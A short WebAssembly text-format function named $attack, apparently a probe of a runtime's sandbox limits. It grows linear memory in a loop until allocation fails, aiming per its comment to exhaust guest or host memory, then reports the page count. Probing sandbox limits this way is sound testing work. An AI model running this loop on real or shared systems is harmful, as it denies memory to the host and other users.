;; Growing memory until nothing is left, of the guest or of the host.
(func $attack (local $pages i32)
  (loop $more
    (br_if $more (i32.ne (memory.grow (i32.const 16)) (i32.const -1))))
  (call $tell (text "pages") (memory.size)))
